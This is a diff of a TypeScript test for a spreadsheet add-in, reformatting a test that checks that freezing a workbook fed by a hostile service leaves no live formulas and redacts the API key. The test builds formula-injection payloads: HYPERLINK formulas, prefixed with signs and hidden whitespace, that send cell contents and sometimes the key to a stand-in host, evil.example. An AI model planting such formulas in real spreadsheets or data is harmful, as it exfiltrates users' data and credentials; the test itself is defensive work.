@@ -17,7 +17,19 @@ import { FakeWorkbook } from "./workbook-fake";
  */
 const rig = useDeskRig({ withKey: true });
 const KEY = DEMO_KEYS.apiKey;
-const TEXT_FIELDS = new Set(["status", "hub", "grade", "leadTime", "description", "derivationMethod", "publicationMode", "methodologyVersion", "tenorLabel", "currency", "unit"]);
+const TEXT_FIELDS = new Set([
+  "status",
+  "hub",
+  "grade",
+  "leadTime",
+  "description",
+  "derivationMethod",
+  "publicationMode",
+  "methodologyVersion",
+  "tenorLabel",
+  "currency",
+  "unit",
+]);
 const SIGNS = ["=", "+", "-", "@"];
 const LEADS = ["", "\t", "\r", " ", "\u00a0", "\u0000"];
 
@@ -30,7 +42,10 @@ function hostile(body: unknown, counter: { n: number }, key: string | undefined)
       if (typeof value !== "string" || !TEXT_FIELDS.has(name)) return [name, hostile(value, counter, key)];
       const n = counter.n++;
       const echo = n % 10 === 0 && key !== undefined ? ` ${key}` : "";
-      return [name, `${LEADS[n % LEADS.length]}${SIGNS[n % SIGNS.length]}HYPERLINK("http://evil.example/?d="&A1,"${name}${echo}")`];
+      return [
+        name,
+        `${LEADS[n % LEADS.length]}${SIGNS[n % SIGNS.length]}HYPERLINK("http://evil.example/?d="&A1,"${name}${echo}")`,
+      ];
     }),
   );
 }
@@ -60,22 +75,39 @@ test("freezing a sheet fed by a hostile service leaves no live formula and no ke
   // The attack is live: the service sent hostile text, and the cells show it.
   expect(proxy.server.requests.length).toBeGreaterThan(0);
   expect(proxy.server.requests.every((request) => request.headers["x-api-key"] === KEY)).toBe(true);
-  const shown = book.usedValues("Sheet1").flat().filter((value): value is string => typeof value === "string" && value.includes("evil.example"));
+  const shown = book
+    .usedValues("Sheet1")
+    .flat()
+    .filter((value): value is string => typeof value === "string" && value.includes("evil.example"));
   expect(shown.length).toBeGreaterThan(40);
 
   const engine = await getContext().engine();
   const outcome = await freezeForSharing(
     book.context,
-    deskFreezeOptions({ scope: "workbook", serviceUrl: proxy.server.url, provenanceOf: (a) => engine.addresses.provenanceOf(a), errorOf: (a) => engine.addresses.errorOf(a) }),
+    deskFreezeOptions({
+      scope: "workbook",
+      serviceUrl: proxy.server.url,
+      provenanceOf: (a) => engine.addresses.provenanceOf(a),
+      errorOf: (a) => engine.addresses.errorOf(a),
+    }),
   );
 
   expect(outcome).toMatchObject({ frozen: Object.keys(FORMULAS).length, busy: [] });
   expect(book.liveFormulas()).toEqual({});
-  const everything = JSON.stringify([book.usedValues("Sheet1"), book.usedValues(RECEIPT_SHEET), [...book.names.keys()]]);
+  const everything = JSON.stringify([
+    book.usedValues("Sheet1"),
+    book.usedValues(RECEIPT_SHEET),
+    [...book.names.keys()],
+  ]);
   expect(everything).not.toContain(KEY);
   expect(everything).toContain("[API key]");
   // The hostile text is still there, as text.
-  expect(book.usedValues("Sheet1").flat().filter((value) => typeof value === "string" && value.includes("evil.example"))).toHaveLength(shown.length);
+  expect(
+    book
+      .usedValues("Sheet1")
+      .flat()
+      .filter((value) => typeof value === "string" && value.includes("evil.example")),
+  ).toHaveLength(shown.length);
 
   const restored = await restoreFormulas(book.context, deskRestoreOptions());
   expect(restored.refused).toEqual([]);
